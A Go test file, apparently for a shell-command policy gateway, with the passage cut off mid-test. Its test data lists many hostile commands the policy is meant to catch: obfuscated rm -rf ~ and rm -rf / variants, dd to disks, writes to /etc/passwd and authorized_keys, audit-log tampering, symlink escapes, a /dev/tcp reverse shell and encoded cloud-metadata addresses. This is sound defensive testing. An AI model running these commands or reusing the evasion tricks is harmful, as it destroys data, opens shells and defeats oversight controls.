package policy

import (
	"context"
	"fmt"
	"os"
	"path/filepath"
	"slices"
	"strings"
	"testing"
)

// TestParserSeesWhatBashSees: each line runs rm -rf ~ (or /) in bash; the
// policy must see that rm, whatever the spelling: fullwidth letters that
// are comment, quote and escape only once folded, ANSI-C strings, brace
// expansion, $IFS, array assignments and here-documents.
func TestParserSeesWhatBashSees(t *testing.T) {
	e := defaultEngine(t)
	for _, line := range []string{
		"echo ＂ ; rm -rf ~ ＂", // folded first, the ; and rm were inside a quote
		"＃ ; rm -rf ~",        // folded first, a comment
		"echo ＼; rm -rf ~",    // folded first, an escaped ;
		"echo x ＃ ; rm -rf ~",
		"$'\\x72\\x6d' -rf ~", "$'\\162\\155' -rf ~", "$'\\u0072\\u006d' -rf ~", "$'\\U00000072m' -rf ~", "rm -rf $'\\x7e'",
		"$'r\\cm' -rf ~", // \c makes a control character: not rm; judged as computed? no: an unknown name
		"{rm,-rf,~}", "r{m,} -rf ~", "{r,x}m -rf ~", "rm -rf {/,/tmp}", "rm -rf /{etc,usr}",
		"rm${IFS}-rf${IFS}~", "rm${IFS%?}-rf${IFS}~",
		"arr=($(rm -rf ~))", "a[$(rm -rf ~)]=1", "declare -a x=($(rm -rf ~))",
		"bash <<EOF\nrm -rf ~\nEOF", "bash <<< 'rm -rf ~'", "sh <<-'X'\n\trm -rf ~\n\tX",
	} {
		d, err := e.Decide(context.Background(), Input{Action: "input", Program: "bash", Text: line})
		if err != nil {
			t.Fatal(err)
		}
		if line == "$'r\\cm' -rf ~" {
			if d.Action == "deny" && d.Rule == "fs.rm_protected" {
				t.Errorf("%q: r^M is not rm: %+v", line, d)
			}
			continue
		}
		if d.Action != "deny" || d.Rule != "fs.rm_protected" {
			t.Errorf("%q: %s %s (%s), want deny fs.rm_protected", line, d.Action, d.Rule, d.Reason)
		}
	}
}

// TestFoldingIsForComparingOnly: fullwidth text inside quotes stays data,
// and a folded name is flagged.
func TestFoldingIsForComparingOnly(t *testing.T) {
	sh := ParseShell("echo '＃ rm -rf ~'")
	if len(sh.Commands) != 1 || sh.Commands[0].Name != "echo" {
		t.Fatalf("commands %+v", sh.Commands)
	}
	sh = ParseShell("ｒｍ -rf ／")
	if c := sh.Commands[0]; c.Name != "rm" || strings.Join(c.Args, " ") != "-rf /" || !sh.Normalized {
		t.Fatalf("%+v normalized %v", c, sh.Normalized)
	}
	// sh -c's string is parsed as the shell will: its fullwidth quote is a letter.
	sh = ParseShell("bash -c 'echo ＂; rm -rf ~ ＂'")
	if !slices.Contains(sh.Names, "rm") && !hasCommand(sh, "rm") {
		t.Fatalf("bash -c: %+v", sh.Commands)
	}
}

func hasCommand(sh Shell, name string) bool {
	for _, c := range sh.Commands {
		if c.Name == name {
			return true
		}
	}
	return false
}

func TestANSIC(t *testing.T) {
	for in, want := range map[string]string{
		`\x72\x6d`: "rm", `\162m`: "rm", `\u00e9`: "é", `\U0001F600`: "😀", `a\tb`: "a\tb", `\ca`: "\x01",
		`\e[0m`: "\x1b[0m", `\'`: "'", `\q`: `\q`, `\x`: `\x`, `\`: `\`, `\0`: "\x00", `\1234`: "S4",
	} {
		if got := ansiC(in); got != want {
			t.Errorf("ansiC(%q) = %q, want %q", in, got, want)
		}
	}
}

// TestBraceExpansionIsBounded: a sequence too long to expand is judged as
// written (its cost is BenchmarkDecide's; a blow-up hangs the test).
func TestBraceExpansionIsBounded(t *testing.T) {
	sh := ParseShell("echo {1..99999999} {a,b}{c,d}{e,f}{g,h}{i,j}{k,l}{m,n}")
	if c := sh.Commands[0]; len(c.Args) > 2*maxBraceWords {
		t.Fatalf("%d args", len(c.Args))
	}
	sh = ParseShell("echo {1..3} {a..c} {5..1..2} x{,y}")
	if got := strings.Join(sh.Commands[0].Args, " "); got != "1 2 3 a b c 5 3 1 x xy" {
		t.Fatalf("got %q", got)
	}
}

// TestCwdOfEachCommand: cd in the line moves the commands after it, not
// those in a subshell, a substitution or another pipeline stage.
func TestCwdOfEachCommand(t *testing.T) {
	for _, tc := range []struct{ cwd, line, cmd, want string }{
		{"", "cd /; rm -rf usr", "rm", "/"},
		{"/work", "rm -rf x", "rm", "/work"},
		{"/work", "cd ..; rm -rf x", "rm", "/"},
		{"/work", "cd; rm -rf x", "rm", "~"},
		{"~/p", "cd ../..; rm -rf x", "rm", "~/.."}, // resolved through the gateway's home, when it gives one
		{"~/p", "cd ~/../../etc/..; rm -rf x", "rm", "~/../.."},
		{"", "cd ../..; rm -rf x", "rm", ""},
		{"/work", "(cd /); rm -rf x", "rm", "/work"},
		{"/work", "x=$(cd /etc); rm -rf x", "rm", "/work"},
		{"/work", "cd / | true; rm -rf x", "rm", "/work"},
		{"/work", "cd -; rm -rf x", "rm", ""},
		{"/work", "cd \"$D\"; rm -rf x", "rm", ""},
		{"/work", "pushd /var >/dev/null && rm -rf lib", "rm", "/var"},
		{"/work", "sudo rm -rf x", "rm", "/work"},
		{"/work", "eval cd /; rm -rf x", "rm", "/"},
		{"/work", "eval 'cd /etc'; rm -rf x", "rm", "/etc"},
		{"/work", "popd; rm -rf x", "rm", ""},
		{"/work", ". ./env.sh; rm -rf x", "rm", ""},
		{"/work", "nohup cd /; rm -rf x", "rm", "/work"},
		{"/work", "setpriv cd /; rm -rf x", "rm", "/work"},
		{"/work", "command cd /; rm -rf x", "rm", "/"},
		{"/work", "pushd /tmp; rm -rf x", "rm", "/tmp"},
		{"/work", "pushd /tmp; popd; rm -rf x", "rm", ""},
		{"/work", "pushd; rm -rf x", "rm", ""},
		{"/work", "pushd -n /tmp; rm -rf x", "rm", ""},
		{"/work", "pushd +1; rm -rf x", "rm", ""},
		{"/work", "source ./activate; rm -rf x", "rm", ""},
	} {
		sh := parseShell(tc.line, nil, nil, tc.cwd)
		var got *Command
		for i := range sh.Commands {
			if sh.Commands[i].Name == tc.cmd {
				got = &sh.Commands[i]
			}
		}
		if got == nil || got.Cwd != tc.want {
			t.Errorf("cwd %q, %q: %s runs in %+v, want %q", tc.cwd, tc.line, tc.cmd, got, tc.want)
		}
	}
}

func TestResolvePath(t *testing.T) {
	for _, tc := range []struct{ cwd, p, want string }{
		{"/", "usr", "/usr"}, {"/work", "..", "/"}, {"/work", "../etc/", "/etc"}, {"~", ".", "~"}, {"~", "..", ""},
		{"~/p", "../.ssh", "~/.ssh"}, {"", "x", ""}, {"/w", "/etc/../usr", "/usr"}, {"/w", "$HOME/x", "~/x"},
		{"/w", "${HOME}", "~"}, {"/w", "~root", ""}, {"/w", "$D/x", ""},
	} {
		if got := resolvePath(tc.cwd, tc.p); got != tc.want {
			t.Errorf("resolvePath(%q, %q) = %q, want %q", tc.cwd, tc.p, got, tc.want)
		}
	}
	if got := homeRel("/home/dev/p", "/home/dev/"); got != "~/p" {
		t.Errorf("homeRel: %q", got)
	}
	if got := homeRel("/home/devx", "/home/dev"); got != "/home/devx" {
		t.Errorf("homeRel: %q", got)
	}
	if got := homeRel("/", "//"); got != "/" {
		t.Errorf("homeRel(/, //): %q", got)
	}
	for _, tc := range []struct{ cwd, p, home, want string }{
		{"/w", "~/../../proc/x", "/home/dev", "/proc/x"}, {"~/a", "../../x", "/home/dev", "/home/x"},
		{"~", "../dev/y", "/home/dev", "~/y"}, {"/w", "${HOME}/../..", "/home/dev", "/"},
		{"/w", "~/../../proc/x", "", ""}, {"/w", "../x", "/home/dev", ""}, {"/w", "~root/../x", "/home/dev", ""},
		{"/w", "$D/../x", "/home/dev", ""}, {"", "../x", "/home/dev", ""}, {"~/a", "../../x", "relative", ""},
		{"~", "", "/home/dev", ""}, {"~/a", "", "/home/dev", ""},
	} {
		if got := beyondHome(tc.cwd, tc.p, tc.home); got != tc.want {
			t.Errorf("beyondHome(%q, %q, %q) = %q, want %q", tc.cwd, tc.p, tc.home, got, tc.want)
		}
	}
}

// TestRelativeDeletesUseTheForegroundCwd: input.cwd (the foreground
// program's directory) resolves a line's relative paths; the home
// directory is ~.
func TestRelativeDeletesUseTheForegroundCwd(t *testing.T) {
	e := defaultEngine(t)
	gw := &Gateway{Home: "/home/dev"}
	for _, tc := range []struct{ cwd, line, want string }{
		{"/", "rm -rf usr", "deny"},
		{"/home/dev", "rm -rf .", "deny"},
		{"/home/dev/project", "rm -rf ../", "deny"},
		{"/home/dev/project", "rm -rf build", "allow"},
		{"/var", "rm -rf lib", "deny"},
		{"/home/dev/project", "cd ~; rm -rf .", "deny"},
		{"/home/dev/project", "cd /; rm -rf usr", "deny"},
		{"/home/dev/.ssh", "cp evil authorized_keys", "deny"},
		// dd's of= is resolved like any operand.
		{"/dev", "dd if=/dev/zero of=sda", "deny"},
		{"/proc", "dd if=x of=sysrq-trigger", "deny"},
		{"/tmp", "dd if=/dev/zero of=/dev/./sda", "deny"},
		{"/tmp", "dd if=x of=/proc/self/../sysrq-trigger", "deny"},
		{"/tmp", "dd if=/dev/zero of=sda bs=1M count=1", "allow"},
		// A path that climbs out of ~ is resolved through the home
		// directory: /home/dev/../../proc is /proc.
		{"/tmp", "echo b > ~/../../proc/sysrq-trigger", "deny"},
		{"/home/dev/a", "echo b > ../../../proc/sysrq-trigger", "deny"},
		{"/tmp", "dd if=x of=$HOME/../../proc/sysrq-trigger", "deny"},
		{"/tmp", "echo hi > ~/../dev/notes", "allow"},
		// So is a directory cd climbs out of ~ to, and the paths
		// relative to it.
		{"/home/dev/project", "cd ~/../..; rm -rf etc", "deny"},
		{"/tmp", "cd ~/../../; cd etc; echo x > passwd", "deny"},
		{"/home/dev/project", "cd ../../..; dd if=/dev/zero of=dev/sda", "deny"},
		{"/home/dev/project", "cd ~/..; rm -rf dev", "deny"},
		{"/home/dev/project", "cd ..; cd ..; rm -rf etc", "allow"}, // /home/etc
		{"/home/dev/project", "cd ~/../..; rm -rf tmp/x", "allow"},
		// An empty operand is no path, not the directory it is run in.
		{"/home/dev", `rm -rf ""`, "allow"},
		{"/home/dev/project", `rm -r "" build`, "allow"},
	} {
		d, err := e.Decide(context.Background(), Input{Action: "input", Program: "bash", Text: tc.line, Cwd: tc.cwd, Gateway: gw})
		if err != nil || d.Action != tc.want {
			t.Errorf("in %s, %q: %s %s (%s) %v, want %s", tc.cwd, tc.line, d.Action, d.Rule, d.Reason, err, tc.want)
		}
	}
	// A start or an exec resolves against its own directory.
	d, _ := e.Decide(context.Background(), Input{Action: "exec", Program: "bash", Text: "rm -rf etc", Start: &Start{Cwd: "/", Argv: []string{"bash", "-c", "rm -rf etc"}, Env: []string{}}})
	if d.Action != "deny" {
		t.Errorf("exec in /: %+v", d)
	}
}

// TestTrailingSlashFollowsTheLink: rm -rf link/ removes what the link
// points to.
func TestTrailingSlashFollowsTheLink(t *testing.T) {
	dir := t.TempDir()
	home := filepath.Join(dir, "home")
	if err := os.MkdirAll(filepath.Join(home, "p"), 0o755); err != nil {
		t.Fatal(err)
	}
	if err := os.Symlink(home, filepath.Join(home, "p", "link")); err != nil {
		t.Fatal(err)
	}
	if err := os.Symlink("/etc", filepath.Join(home, "p", "etclink")); err != nil {
		t.Fatal(err)
	}
	e := defaultEngine(t)
	in := func(line string) Input {
		return Input{Action: "input", Program: "bash", Text: line, Cwd: filepath.Join(home, "p"), Gateway: &Gateway{Home: home}}
	}
	for line, want := range map[string]string{
		"rm -rf link/": "deny", "rm -rf etclink/": "deny", "rm -rf link": "allow", "rm -rf etclink": "allow",
	} {
		d, err := e.Decide(context.Background(), in(line))
		if err != nil || d.Action != want {
			t.Errorf("%q: %s %s (%s) %v, want %s", line, d.Action, d.Rule, d.Reason, err, want)
		}
	}
}

// TestPathsFollowLinks: a path through a link names the link's target, as
// the kernel resolves it: a link on the disk in the path's directory
// (x/etc, with x a link to /), and a link the line itself makes, for the
// commands after it.
func TestPathsFollowLinks(t *testing.T) {
	dir := t.TempDir()
	home := filepath.Join(dir, "home")
	p := filepath.Join(home, "p")
	dots := filepath.Join(dir, "dotfiles")
	for _, d := range []string{filepath.Join(p, "out", "cache"), filepath.Join(home, ".ssh"), filepath.Join(dots, "aws")} {
		if err := os.MkdirAll(d, 0o755); err != nil {
			t.Fatal(err)
		}
	}
	for link, target := range map[string]string{
		filepath.Join(p, "root"): "/", filepath.Join(p, "build"): filepath.Join(p, "out"), filepath.Join(p, "keys"): filepath.Join(home, ".ssh"),
		filepath.Join(home, ".aws"): filepath.Join(dots, "aws"), // a dotfiles manager's link
		filepath.Join(p, "etcl"):    "/etc", filepath.Join(p, "pwl"): "/etc/passwd",
		filepath.Join(p, "rcl"):  filepath.Join(home, ".bashrc"), // dangling: ~/.bashrc is not there yet
		filepath.Join(p, "outl"): "out",                          // relative
	} {
		if err := os.Symlink(target, link); err != nil {
			t.Fatal(err)
		}
	}
	if err := os.MkdirAll(filepath.Join(p, "rd", "cache"), 0o755); err != nil {
		t.Fatal(err)
	}
	if err := os.Symlink("/", filepath.Join(p, "rd", "r")); err != nil {
		t.Fatal(err)
	}
	if err := os.Mkdir(filepath.Join(p, "dd"), 0o755); err != nil {
		t.Fatal(err)
	}
	// From p, rel reaches /etc/passwd; from p/a/b, somewhere else.
	rel := strings.Repeat("../", strings.Count(p, "/")) + "etc/passwd"
	e := defaultEngine(t)
	for line, want := range map[string]string{
		// Found by a review: option values, names removed earlier,
		// relative targets moved, trailing slashes, moved directories.
		"mv -S .x root r2 && rm -rf r2/usr":                   "deny",
		"mv -vS .bak root r2 && rm -rf r2/usr":                "deny",
		"mv -St root r2 && rm -rf r2/usr":                     "deny",
		"cp -a --no-preserve mode pwl pw2 && echo x > pw2":    "deny",
		"rm -rf dd && mv root dd && rm -rf dd/usr":            "deny",
		"rm -rf dd; cp -s /etc/passwd dd; echo x > dd":        "deny",
		"ln -s " + rel + " a/b/x && mv a/b/x r && echo x > r": "deny",
		"ln -s " + rel + " x && echo x > x":                   "deny",
		"rm -rf keys/":                                        "confirm",
		"rm -rf keys/.":                                       "confirm",
		"mv " + dots + " vendor && rm -rf vendor/aws":         "allow",
		"cp -a rd rd2 && rm -rf rd2/r/usr":                    "deny",
		"cp -r rd rd2 && rm -rf rd2/r/usr":                    "deny",
		"cp -a rd rd2 && rm -rf rd2/cache":                    "allow",
		"cp -a " + dots + " d2 && echo x > d2/aws/config":     "allow",
		"cp -a ~/.ssh sshbak && echo x > sshbak/config":       "confirm", // cp reads the keys; the write is to the copy
		"cp -rL rd rd2 && rm -rf rd2/r/usr":                   "allow",
		"ln pwl pw2 && echo x > pw2":                          "deny",
		"ln -P pwl pw2 && echo x > pw2":                       "deny",
		"ln /etc/passwd pw3 && echo x > pw3":                  "deny",
		"ln notes n2 && echo x > n2":                          "allow",
		"cp -aL pwl pw2 && echo x > pw2":                      "allow",
		// Links on the disk.
		"rm -rf root/etc":               "deny",
		"rm -rf ./root/usr/":            "deny",
		"chmod -R 777 root/etc":         "deny",
		"echo x > keys/authorized_keys": "deny",
		"cp k keys/authorized_keys":     "deny",
		"rm -rf build/cache":            "allow",
		"ls root/etc":                   "allow",
		"cat /proc/self/cwd/README":     "allow",
		// A path through a link is judged as written too: ~/.aws is a
		// link to the dotfiles, and ~/.aws/credentials is still itself.
		"cd ~/.aws && echo x > credentials": "deny",
		// Links the line makes.
		"ln -s / x && rm -rf x/etc":                "deny",
		"ln -s /etc x; rm -rf x/":                  "deny",
		"ln -sf / x; cd x; rm -rf usr":             "deny",
		"ln -s ~/.ssh k && cp y k/authorized_keys": "deny",
		"ln -s /etc x && ln -s x y && rm -rf y/":   "deny",
		"ln -s .. up; rm -rf up/p":                 "allow",
		"rm -rf x; ln -s /etc x":                   "allow",
		// The link's own last component is followed by what follows it
		// (a write, chmod; a trailing / or /.), not by rm or unlink.
		"echo x > pwl":                        "deny",
		"cp /tmp/x pwl":                       "deny",
		"chmod -R 777 etcl":                   "deny",
		"rm -rf etcl/.":                       "deny",
		"rm -f pwl":                           "allow",
		"ln -s /etc/passwd pw && echo x > pw": "deny",
		"ln --sym / x && rm -rf x/etc":        "deny",
		// A later link of the same name does not hide an earlier reach.
		"rm -rf root/etc; ln -sfn /tmp root; : root/etc":   "deny",
		"ln -s / x; rm -rf x/etc; ln -sfn /tmp x; : x/etc": "deny",
		// Mentions of a link that do not follow it.
		"ln -s /usr/bin/python3 py && ls -l py":         "allow",
		"ln -s /usr/share/dict/words w && cp w mywords": "allow",
		"ln -s /etc/hosts h && unlink h":                "allow",
		"ln -s /etc/hosts h && cat h > copy && rm h":    "allow",
		// Where the line does not tell the link's target, or makes too
		// long a chain, or uses ln -t, the line is asked about.
		`ln -s "$DIR" x && rm -rf x/etc`:                "confirm",
		`ln -s "$HOME" x && rm -rf x/`:                  "deny",
		`ln -sfn "$PWD/dist" current && ls current/`:    "allow",
		`ln -sf "$(pwd)/config" cfg && cat cfg/app.yml`: "allow",
		// A name removed earlier on the line is no longer the link the
		// disk holds.
		"rm -f pwl && touch pwl":             "allow",
		"unlink pwl; echo x > pwl":           "allow",
		"rmdir pwl; echo x > pwl":            "deny",
		"rm -i pwl </dev/null; echo x > pwl": "deny",
		// A link the line makes replaces the one the disk holds there.
		"ln -sf /tmp/safe pwl && echo x > pwl":        "allow",
		"ln -sfn / build; rm -rf build/etc":           "deny",
		"ln -sfn /etc build && echo x > build/passwd": "deny",
		"ln -s -t . /etc && rm -rf etc/":              "confirm",
		"ln -s / l0; " + chain(10) + "rm -rf l10/etc": "confirm",
		"ln -s / l0; " + chain(6) + "rm -rf l6/etc":   "deny",
		dotfiles(17): "allow",
		// A sibling of the project, reached through a link, is outside it
		// as ../shared/cache/tmp is.
		"ln -s ../shared/cache c && rm -rf c/tmp": "confirm",
		"ln -s ../shared/cache c && ls c/tmp":     "allow",
		// A recursive delete that leaves the working directory through a
		// link is asked about as one written outside it is.
		"ln -s ~ x && rm -rf x/.ssh":       "confirm",
		"ln -s ~/.cache c; rm -r c/pip":    "confirm",
		"rm -rf keys/../.aws":              "confirm",
		"ln -s out o && rm -rf o/cache":    "allow",
		"ln -s ~ x && rm -f x/.ssh/config": "allow",
		// mv and cp leave links: the new name reaches what the old did.
		"mv root r2 && rm -rf r2/etc":                  "deny",
		"mv root r2; chmod -R 777 r2/etc":              "deny",
		"mv -T root r2 && rm -rf r2/usr":               "deny",
		"mv -t /tmp/q root && rm -rf /tmp/q/root/etc":  "deny",
		"mv -vt /tmp/q root && rm -rf /tmp/q/root/etc": "deny",
		"cp -a root r2 && rm -rf r2/etc":               "deny",
		"cp -P etcl e2 && rm -rf e2/":                  "deny",
		"cp -r etcl e2 && rm -rf e2/ssh":               "confirm",
		"cp -L etcl e2 && rm -rf e2/ssh":               "allow",
		"cp -s /etc/passwd pw2 && echo x > pw2":        "deny",
		"ln -s / x; mv x y; rm -rf y/etc":              "deny",
		"mv outl o2 && rm -rf o2/cache":                "allow",
		"mv build b2 && rm -rf b2/cache":               "allow",
		"mv notes.txt n2 && echo x > n2":               "allow",
		"cp -a build b3 && ls b3/":                     "allow",
		// A .. after a link goes up from the link's target; a dangling
		// link is followed to the file a write creates.
		"echo x > keys/../.bashrc": "deny",
		"echo x > rcl":             "deny",
		"cat rcl":                  "allow",
		"echo x > build/../notes":  "allow",
	} {
		d, err := e.Decide(context.Background(), Input{Action: "input", Program: "bash", Text: line, Cwd: p, Gateway: &Gateway{Home: home}})
		if err != nil || d.Action != want {
			t.Errorf("%q: %s %s (%s) %v, want %s", line, d.Action, d.Rule, d.Reason, err, want)
		}
	}
	// ln -s T DIR makes DIR/T's name: from /, etc stays /etc.
	for line, want := range map[string]string{
		"ln -s /tmp/safe etc; rm -rf etc/": "deny", "ln -s /tmp/safe etc && chown -R nobody etc": "deny",
	} {
		d, err := e.Decide(context.Background(), Input{Action: "input", Program: "bash", Text: line, Cwd: "/", Gateway: &Gateway{Home: home}})
		if err != nil || d.Action != want {
			t.Errorf("in /, %q: %s %s (%s) %v, want %s", line, d.Action, d.Rule, d.Reason, err, want)
		}
	}
	// With no directory known, a link the line makes is still followed by
	// the relative paths after it.
	for line, want := range map[string]string{
		"ln -s / x && rm -rf x/etc": "deny", "ln -s /etc x; rm -rf x/": "deny", "ln -s / x; rm -rf y/etc": "allow",
	} {
		d, err := e.Decide(context.Background(), Input{Action: "input", Program: "bash", Text: line})
		if err != nil || d.Action != want {
			t.Errorf("no cwd, %q: %s %s (%s) %v, want %s", line, d.Action, d.Rule, d.Reason, err, want)
		}
	}
	// Past the links a line may make, the line is asked about.
	line := "ln -s / x; " + strings.Repeat("ln -s a b; ", 3000) + "rm -rf x/etc"
	d, err := e.Decide(context.Background(), Input{Action: "input", Program: "bash", Text: line, Cwd: p, Gateway: &Gateway{Home: home}})
	if err != nil || d.Action == "allow" {
		t.Errorf("3,000 links, then rm -rf x/etc: %s %s (%s) %v, want it stopped", d.Action, d.Rule, d.Reason, err)
	}
}

// chain is n links, each to the one before it: ln -s l0 l1; … ln -s
// l(n-1) ln; .
func chain(n int) string {
	var b strings.Builder
	for i := 1; i <= n; i++ {
		fmt.Fprintf(&b, "ln -s l%d l%d; ", i-1, i)
	}
	return b.String()
}

// dotfiles is a setup line that links n dotfiles into ~.
func dotfiles(n int) string {
	var ls []string
	for i := range n {
		ls = append(ls, fmt.Sprintf("ln -sf ~/dotfiles/f%d ~/.f%d", i, i))
	}
	return strings.Join(ls, "; ")
}

// TestGatewayPathsAsConfigured: the gateway's own files are judged at the
// paths the gateway was configured with, whatever the spelling.
func TestGatewayPathsAsConfigured(t *testing.T) {
	e := defaultEngine(t)
	gw := &Gateway{Paths: []string{"/srv/tg/audit.jsonl", "/opt/tg/policies", "/home/dev/.local/state/termgate"}, Home: "/home/dev"}
	for line, want := range map[string]string{
		"echo > /srv/tg/audit.jsonl":          "deny",
		"truncate -s0 /srv/tg//audit.jsonl":   "deny",
		"cd /srv/tg && rm audit.jsonl":        "deny",
		"cp x.rego /opt/tg/policies/":         "deny",
		"sed -i s/a/b/ /opt/tg/policies/x":    "deny",
		"rm -rf ~/.local/state/termgate":      "deny",
		"tar --directory=/opt/tg/policies -x": "deny",
		"ls /srv/tg":                          "allow",
		"echo > /srv/tg/audit.jsonl.txt":      "allow",
		"rm -rf /opt/tg/policies-old":         "confirm",
	} {
		d, err := e.Decide(context.Background(), Input{Action: "input", Program: "bash", Text: line, Cwd: "/home/dev/p", Gateway: gw})
		if err != nil || d.Action != want {
			t.Errorf("%q: %s %s (%s) %v, want %s", line, d.Action, d.Rule, d.Reason, err, want)
		}
	}
	// A path written with a final * stands for every path that starts
	// with it: the audit log and its rotations.
	gw = &Gateway{Paths: []string{"/srv/tg/audit.jsonl*"}}
	for line, want := range map[string]string{
		"rm /srv/tg/audit.jsonl.1": "deny", "echo > /srv/tg/audit.jsonl": "deny", "rm /srv/tg/other": "allow",
	} {
		d, err := e.Decide(context.Background(), Input{Action: "input", Program: "bash", Text: line, Cwd: "/home/dev/p", Gateway: gw})
		if err != nil || d.Action != want {
			t.Errorf("%q: %s %s (%s) %v, want %s", line, d.Action, d.Rule, d.Reason, err, want)
		}
	}
}

func TestCanonicalHost(t *testing.T) {
	for in, want := range map[string]string{
		"169.254.169.254": "169.254.169.254", "2852039166": "169.254.169.254", "0xa9fea9fe": "169.254.169.254",
		"0XA9FEA9FE": "169.254.169.254", "0251.0376.0251.0376": "169.254.169.254", "169.254.43518": "169.254.169.254",
		"0xa9.254.0251.0xfe": "169.254.169.254", "169.16689662": "169.254.169.254", "[::ffff:169.254.169.254]": "169.254.169.254",
		"::ffff:a9fe:a9fe": "169.254.169.254", "64:ff9b::a9fe:a9fe": "169.254.169.254", "[FD00:EC2::254]": "fd00:ec2::254",
		"fd00:ec2:0:0:0:0:0:254": "fd00:ec2::254", "Metadata.Google.Internal.": "metadata.google.internal", "example.org": "example.org",
	} {
		if got, ok := canonicalHost(in); !ok || got != want {
			t.Errorf("canonicalHost(%q) = %q %v, want %q", in, got, ok, want)
		}
	}
	for _, in := range []string{"", "256.1.1.1.1", "1.2.3.256", "0x1g", "a b", "$(x)", "4294967296"} {
		if got, ok := canonicalHost(in); ok && strings.Count(got, ".") == 3 && in != "" {
			if _, v4 := inetAton(strings.ToLower(in)); v4 {
				t.Errorf("canonicalHost(%q) = %q, an address", in, got)
			}
		}
	}
	if _, ok := inetAton("1.2.3.256"); ok {
		t.Error("1.2.3.256 read as an address")
	}
	if _, ok := inetAton("4294967296"); ok {
		t.Error("2^32 read as an address")
	}
}

// TestHostsAreURLHosts: the metadata address in a URL's path, an echo or a
// comment is no host; in a URL's host, or as a network client's host, it
// is.
func TestHostsAreURLHosts(t *testing.T) {
	e := defaultEngine(t)
	for line, want := range map[string][]string{
		"curl http://example.org/169.254.169.254/x":   {"example.org"},
		"curl -s 'http://u:p@0xa9fea9fe:80/latest'":   {"169.254.169.254"},
		"nc 2852039166 80":                            {"169.254.169.254", "0.0.0.80"},
		"echo http://169.254.169.254/":                nil,
		"ls # http://169.254.169.254/":                nil,
		"bash -i >& /dev/tcp/169.254.169.254/80 0>&1": {"169.254.169.254"},
		"wget https://[::ffff:a9fe:a9fe]/":            {"169.254.169.254"},
		"seq 2852039166":                              nil,
	} {
		in := e.Build(Input{Action: "input", Program: "bash", Text: line})
		if strings.Join(in.Shell.Hosts, " ") != strings.Join(want, " ") {
			t.Errorf("%q: hosts %q, want %q", line, in.Shell.Hosts, want)
		}
	}
}

// TestEveryRunnerRunsItsCommand: each runner of the default bundle's data
// runs the command after its options, skipped arguments and subcommand,
// and the policy sees it.
func TestEveryRunnerRunsItsCommand(t *testing.T) {
	d := defaultShellData()
	if len(d.runners) < 40 {
		t.Fatalf("%d runners", len(d.runners))
	}
	e := defaultEngine(t)
	for _, name := range d.runnerNames() {
		r := d.runners[name]
		words := []string{name}
		if len(r.subcommands) > 0 {
			words = append(words, r.subcommands[0])
		}
		for range r.skip {
			words = append(words, "x")
		}
		line := strings.Join(words, " ") + " rm -rf ~"
		if r.line || r.lines {
			line = strings.Join(words, " ") + " 'rm -rf ~'"
		}
		dec, err := e.Decide(context.Background(), Input{Action: "input", Program: "bash", Text: line})
		if err != nil || dec.Action != "deny" || dec.Rule != "fs.rm_protected" {
			t.Errorf("%q: %s %s, %v", line, dec.Action, dec.Rule, err)
		}
	}
}

// TestEveryRunnerOptionTakesItsValues: each option of each runner that
// takes values is followed by as many ("-o V1 V2 rm -rf ~" is not "V2
// rm -rf ~" run), given as "--opt=V1" too; and a runner with separators
// runs what follows one whatever comes before it.
func TestEveryRunnerOptionTakesItsValues(t *testing.T) {
	d := defaultShellData()
	e := defaultEngine(t)
	checked := 0
	for _, name := range d.runnerNames() {
		r := d.runners[name]
		head := []string{name}
		if len(r.subcommands) > 0 {
			head = append(head, r.subcommands[0])
		}
		tail := slices.Repeat([]string{"x"}, r.skip)
		var lines []string
		for o, n := range r.options {
			if n < 0 {
				// An optional value is only ever joined: the next word
				// is the command.
				lines = append(lines, strings.Join(slices.Concat(head, []string{o}, tail), " ")+" rm -rf ~")
				continue
			}
			// The values look like commands (rm), so a value taken as the
			// command is a line judged on the wrong words: rm -rf rm … or
			// an unknown program.
			vals := slices.Repeat([]string{"rm"}, n)
			lines = append(lines, strings.Join(slices.Concat(head, []string{o}, vals, tail), " ")+" rm -rf ~")
			if strings.HasPrefix(o, "--") {
				lines = append(lines, strings.Join(slices.Concat(head, []string{o + "=rm"}, vals[1:], tail), " ")+" rm -rf ~")
			}
		}
		for _, sep := range r.separators {
			lines = append(lines, strings.Join(slices.Concat(head, []string{"a", "b", sep}), " ")+" rm -rf ~")
		}
		for _, line := range lines {
			if r.line || r.lines {
				line = strings.TrimSuffix(line, " rm -rf ~") + " 'rm -rf ~'"
			}
			dec, err := e.Decide(context.Background(), Input{Action: "input", Program: "bash", Text: line})
			if err != nil || dec.Action != "deny" || dec.Rule != "fs.rm_protected" || !strings.Contains(dec.Reason, "~") {
				t.Errorf("%q: %s %s %q, %v", line, dec.Action, dec.Rule, dec.Reason, err)
			}
			checked++
		}
	}
	if checked < 300 {
		t.Errorf("only %d lines checked", checked)
	}
}

// TestRunnersReadAsTheyRun: the ways a runner's command line is read
// that its options alone do not show: getopt's clusters, separators and
// the reading by position beside them, a shell started with the rest,
// capsh's and runcon's own forms, a subcommand that may be left out, and
// a cd that a program runs, which cannot move the shell.
func TestRunnersReadAsTheyRun(t *testing.T) {
	e := defaultEngine(t)
	for _, tc := range []struct{ cwd, line, want string }{
		{"/home/dev/p", "chpst -vu nobody rm -rf ~", "deny"},
		{"/home/dev/p", "tini -sp SIGTERM rm -rf ~", "deny"},
		{"/home/dev/p", "strace -fe trace=open rm -rf ~", "deny"},
		{"/home/dev/p", "distrobox enter box -e rm -rf ~", "deny"},
		{"/home/dev/p", "distrobox enter box -e rm -rf -- ~", "deny"},
		{"/home/dev/p", "aws-vault exec prod rm -rf -- ~", "deny"},
		{"/home/dev/p", "aws-vault exec -n prod rm -rf ~", "deny"},
		{"/home/dev/p", "run0 --via-shell -- -c 'rm -rf ~'", "deny"},
		{"/home/dev/p", "run0 -i -- -c 'rm -rf ~'", "deny"},
		{"/home/dev/p", "capsh -+ -c 'rm -rf ~'", "deny"},
		{"/home/dev/p", "capsh == -- -c 'rm -rf ~'", "deny"},
		{"/home/dev/p", "runcon -c rm -rf ~", "deny"},
		{"/home/dev/p", "runcon --compute rm -rf ~", "deny"},
		{"/home/dev/p", "runcon -ct unconfined_t rm -rf ~", "deny"},
		{"/home/dev/p", "runcon --ty unconfined_t rm -rf ~", "deny"},
		{"/home/dev/p", "setpriv --euid 0 rm -rf ~", "deny"},
		{"/home/dev/p", "proot -R / rm -rf ~", "deny"},
		{"/home/dev/p", "doppler run --command 'rm -rf ~'", "deny"},
		{"/home/dev/p", "mise x -c 'rm -rf ~'", "deny"},
		{"/home/dev/p", "sem 'rm -rf ~'", "deny"},
